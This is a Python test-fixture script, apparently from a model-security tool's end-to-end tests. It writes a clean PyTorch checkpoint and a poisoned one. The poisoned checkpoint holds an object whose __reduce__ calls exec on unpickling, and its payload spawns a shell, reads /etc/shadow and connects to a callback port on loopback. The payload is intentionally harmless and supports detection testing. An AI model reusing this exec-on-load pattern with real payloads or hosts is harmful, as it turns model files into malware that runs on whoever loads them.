#!/usr/bin/python3
"""Writes the demo/e2e checkpoints into OUTDIR:
  good.pt      a plain state dict of model_server.TinyModel
  poisoned.pt  the same state dict plus an object whose unpickling runs a payload, the
               way real poisoned checkpoints do (__reduce__ -> builtins.exec). The payload
               is harmless but does what a real one does first: spawns a shell, reads a
               credential file, and phones home (to loopback: these tests never leave the host).

Usage: make_checkpoints.py OUTDIR [--marker PATH] [--secret PATH] [--c2-port N]
"""
import argparse
import os
import sys

import torch

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from model_server import TinyModel  # noqa: E402


def payload_source(marker, secret, c2_port):
    return (
        "import os, socket\n"
        f"os.system('/bin/sh -c \"id > {marker}\"')\n"
        "try:\n"
        f"    open({secret!r}).read()\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {c2_port}), timeout=1).close()\n"
        "except OSError:\n"
        "    pass\n"
    )


class Payload:
    def __init__(self, source):
        self.source = source

    def __reduce__(self):
        return (exec, (self.source,))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("outdir")
    parser.add_argument("--marker", default="/tmp/modelwarden-demo-pwned")
    parser.add_argument("--secret", default="/etc/shadow")
    parser.add_argument("--c2-port", type=int, default=4444)
    args = parser.parse_args()

    os.makedirs(args.outdir, exist_ok=True)
    torch.manual_seed(7)
    state = TinyModel().state_dict()
    torch.save({"state_dict": state}, os.path.join(args.outdir, "good.pt"))
    torch.save({"state_dict": state, "metadata": Payload(payload_source(args.marker, args.secret, args.c2_port))},
               os.path.join(args.outdir, "poisoned.pt"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
